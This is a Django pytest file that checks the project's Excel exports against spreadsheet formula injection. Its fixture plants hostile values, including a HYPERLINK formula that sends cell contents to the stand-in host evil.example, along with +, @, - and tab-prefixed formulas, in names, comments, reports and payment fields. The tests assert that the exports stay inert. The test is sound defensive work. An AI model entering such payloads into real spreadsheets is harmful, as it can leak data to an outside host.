"""Every kind of Excel export, fed text that a spreadsheet would run as a formula (issue 17,
point 3): no cell of the saved workbook is a formula, the text reads back as it is stored,
and amounts stay numbers."""

from datetime import date, timedelta
from io import BytesIO

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from accounts.choices import Role
from accounts.models import Organisation
from accounts.tests.factories import UserFactory
from approvals import services as approvals
from approvals.tests.helpers import approved_general, contract_data, reveal_both
from core.testing import download_followed
from inspections import services as inspections
from inspections.choices import ItemSource
from inspections.services import progress_report
from performance.risk import risk_recompute
from performance.scoring import performance_score_quarter
from performance.tests.test_scoring import worked_example
from projects.services import payment_approve, payment_mark_paid, payment_request
from projects.tests.factories import ready_to_start
from ratings.services import report_record
from tests.funds_helpers import ACCOUNT

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?d="&A1,"查看证据材料")'
PLUS, AT, MINUS, TAB = "+1 全部合格", "@SUM(A1:A9) 已整改", "-2+3 待核实", "\t=1+1 凌晨施工"


def _workbook(response):
    assert response.status_code == 200, response.status_code
    assert "spreadsheetml" in response["Content-Type"]
    return load_workbook(BytesIO(response.content))


def _cells(book):
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row]


def _assert_inert(book, *texts: str) -> list:
    cells = _cells(book)
    formulas = [f"{c.parent.title}!{c.coordinate}" for c in cells if c.data_type == "f"]
    assert formulas == []
    values = [c.value for c in cells]
    for text in texts:
        assert any(isinstance(v, str) and text in v for v in values), text
    return cells


@pytest.fixture
def hostile(district):
    """A general project filed under a formula for a name, contracted, started with a comment
    that is one, with ledger items, a round, a report and a payment carrying such text."""
    d = district
    project = approved_general(d, name=LINK)
    approvals.lottery_shortlist(
        actor=d.dept, project_id=project.pk, contractor_ids=[d.builder.pk, d.builder_b.pk]
    )
    reveal_both(d, project.pk)
    lottery = approvals.lottery_draw(actor=d.dept, project_id=project.pk)
    approvals.contract_file(
        actor=d.street_zhenhai,
        project_id=project.pk,
        data=contract_data(d, amount="100000", company=lottery.winner),
    )
    Organisation.objects.filter(pk=lottery.winner.pk).update(bank_account=ACCOUNT)
    contractor = UserFactory(
        username=f"pm_{project.pk}", organisation=lottery.winner, role=Role.CONTRACTOR
    )
    ready_to_start(project, d.street_zhenhai)
    approvals.project_transition(
        actor=d.street_zhenhai, project_id=project.pk, name="start_work", comment=AT
    )
    progress_report(actor=contractor, project_id=project.pk, percent="40", text="路面铺设过半")
    payment = payment_request(
        actor=contractor, project_id=project.pk, stage="progress", amount="12345.60"
    )
    payment_approve(actor=d.finance, payment_id=payment.pk)
    payment_mark_paid(
        actor=d.finance, payment_id=payment.pk, paid_on=timezone.localdate(), voucher_no=MINUS
    )
    inspections.item_open(
        actor=d.dept,
        project_id=project.pk,
        source=ItemSource.SPOT_CHECK,
        problem=PLUS,
        responsible_organisation_id=lottery.winner.pk,
        deadline=timezone.localdate() + timedelta(days=5),
        standard=MINUS,
        responsible_person=AT,
    )
    inspection = inspections.round_create(
        actor=d.discipline, name="巡察", inspecting_body="第一巡察组", started_on=date(2026, 1, 5)
    )
    inspections.round_feedback(
        actor=d.discipline,
        round_id=inspection.pk,
        problem=LINK,
        responsible_organisation_id=d.zhenhai.pk,
        deadline=timezone.localdate() + timedelta(days=30),
        standard=PLUS,
        project_id=project.pk,
    )
    report_record(project=project, text=LINK, contact=TAB, address="198.51.100.7")
    inspections.spot_check_record(
        actor=d.dept, project_id=project.pk, items=[("井盖高差", False, MINUS)]
    )
    risk_recompute()
    project.refresh_from_db()
    project.round = inspection
    return project


def test_payment_ledger(client, district, hostile):
    client.force_login(district.finance)
    book = _workbook(client.get(reverse("projects:payment_ledger"), {"format": "xlsx"}))
    _assert_inert(book, LINK, MINUS)
    row = next(iter(book.active.iter_rows(min_row=2)))
    amount = row[6]
    assert (amount.value, amount.data_type, amount.number_format) == (12345.6, "n", "#,##0.00")


def test_dashboard_project_list_timeline_and_anomalies(client, district, hostile):
    client.force_login(district.discipline)
    book = _workbook(download_followed(client, reverse("dashboards:projects"), {"format": "xlsx"}))
    _assert_inert(book, LINK)
    budget = next(r[7] for r in book.active.iter_rows(min_row=6) if r[1].value == LINK)
    assert budget.data_type == "n" and budget.number_format == "#,##0.00"

    book = _workbook(
        client.get(reverse("dashboards:timeline", args=[hostile.pk]), {"format": "xlsx"})
    )
    _assert_inert(book, AT)

    book = _workbook(
        download_followed(
            client, reverse("dashboards:anomaly", args=["same-person"]), {"format": "xlsx"}
        )
    )
    _assert_inert(book)


def test_ledger_and_inspection_round_lists(client, district, hostile):
    client.force_login(district.dept)
    book = _workbook(client.get(reverse("inspections:ledger_export")))
    _assert_inert(book, PLUS, MINUS, AT, LINK)
    client.force_login(district.discipline)
    book = _workbook(
        client.get(reverse("inspections:round_export", args=[hostile.round.pk, "xlsx"]))
    )
    cells = _assert_inert(book, LINK, PLUS)
    assert LINK in [c.value for c in cells]  # exactly as entered, not a shown formula


def test_residents_reports(client, district, hostile):
    client.force_login(district.discipline)
    book = _workbook(client.get(reverse("ratings:reports"), {"format": "xlsx"}))
    cells = _assert_inert(book, LINK)
    values = [c.value for c in cells]
    assert LINK in values and TAB.strip() in values  # the service keeps contacts stripped


def test_risk_credit_and_the_quarterly_report(client, district, hostile):
    d = district
    worked_example(d)
    performance_score_quarter(quarter="2026Q3")
    # A company name as the administrator typed it.
    Organisation.objects.filter(pk=d.builder_c.pk).update(name=LINK)
    client.force_login(d.discipline)
    _assert_inert(_workbook(client.get("/performance/risk/", {"format": "xlsx"})), LINK)
    _assert_inert(_workbook(client.get("/performance/credit/", {"format": "xlsx"})), LINK)
    book = _workbook(client.get(reverse("performance:report_xlsx", args=["2026Q3"])))
    cells = _assert_inert(book, LINK)
    scores = [c for c in cells if c.column == 9 and c.row > 2 and c.value is not None]
    assert scores and all(c.data_type == "n" for c in scores)
